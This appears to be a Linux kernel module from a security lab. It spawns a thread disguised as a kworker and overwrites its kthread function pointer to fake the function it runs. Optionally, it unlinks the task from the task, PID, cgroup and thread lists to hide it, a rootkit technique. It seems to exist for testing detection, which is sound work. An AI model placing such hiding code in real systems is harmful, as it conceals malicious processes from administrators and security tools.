// SPDX-License-Identifier: GPL-2.0-only
/*
 * A kernel thread that runs code of this module, and says that it runs a function of the kernel.
 * With ended=1 it is in no list of tasks, and says that it has ended.
 */
#include "lab.h"

#include <linux/cgroup-defs.h>
#include <linux/idr.h>
#include <linux/kthread.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>

LAB_LISTED;

static bool ended;
module_param(ended, bool, 0444);

#define PLACES 16 /* the words of struct kthread that are searched */

static struct task_struct *task;
static unsigned long *function; /* kthread.threadfn */
static struct pid_namespace *ns;
static rwlock_t *tasks_lock; /* not exported to modules */
static spinlock_t *sets_lock;
static int exit_state;

static int work(void *unused)
{
	while (!kthread_should_stop())
		msleep(100);
	return 0;
}

/* Claim the function of another thread of the kernel. */
static int claim(void)
{
#if LINUX_VERSION_CODE >= KERNEL_VERSION(5, 17, 0) /* e32cf5dfbe22 */
	unsigned long *k = (unsigned long *)task->worker_private;
#else
	unsigned long *k = (unsigned long *)task->set_child_tid;
#endif
	unsigned long other = lab_symbol("kthread_worker_fn");
	int i;

	for (i = 0; k && i < PLACES; i++) {
		if (k[i] != (unsigned long)work)
			continue;
		function = &k[i];
		*function = other;
		return 0;
	}
	return -ENOENT;
}

static void lock(void)
{
	write_lock_irq(tasks_lock);
	spin_lock(sets_lock);
}

static void unlock(void)
{
	spin_unlock(sets_lock);
	write_unlock_irq(tasks_lock);
}

static void hide_task(void)
{
	lock();
	list_del_rcu(&task->tasks);
	hlist_del_rcu(&task->pid_links[PIDTYPE_PID]);
	hlist_del_rcu(&task->pid_links[PIDTYPE_TGID]);
	idr_remove(&ns->idr, task->pid);
	list_del_init(&task->sibling);
	list_del_init(&task->cg_list);
	list_del_rcu(&task->thread_node);
	exit_state = task->exit_state;
	task->exit_state = EXIT_DEAD;
	task->flags |= PF_EXITING;
	unlock();
}

static void show_task(void)
{
	struct task_struct *init = (void *)lab_symbol("init_task");
	struct pid *p = task->thread_pid;

	lock();
	task->flags &= ~PF_EXITING;
	task->exit_state = exit_state;
	list_add_tail(&task->cg_list, &task->cgroups->tasks);
	list_add_tail_rcu(&task->thread_node, &task->signal->thread_head);
	list_add_tail(&task->sibling, &task->real_parent->children);
	idr_alloc(&ns->idr, p, task->pid, task->pid + 1, GFP_ATOMIC);
	hlist_add_head_rcu(&task->pid_links[PIDTYPE_PID], &p->tasks[PIDTYPE_PID]);
	hlist_add_head_rcu(&task->pid_links[PIDTYPE_TGID], &p->tasks[PIDTYPE_TGID]);
	list_add_rcu(&task->tasks, &init->tasks);
	unlock();
}

static int __init thread_lab_init(void)
{
	int ret;

	ns = (void *)lab_symbol("init_pid_ns");
	tasks_lock = (void *)lab_symbol("tasklist_lock");
	sets_lock = (void *)lab_symbol("css_set_lock");
	task = kthread_run(work, NULL, "kworker/u8:8");
	if (IS_ERR(task))
		return PTR_ERR(task);
	lab_drain();
	ret = ns && tasks_lock && sets_lock ? claim() : -ENOENT;
	if (ret)
		kthread_stop(task);
	else if (ended)
		hide_task();
	return ret;
}

static void __exit thread_lab_exit(void)
{
	if (ended)
		show_task();
	*function = (unsigned long)work;
	kthread_stop(task);
}
module_init(thread_lab_init);
module_exit(thread_lab_exit);
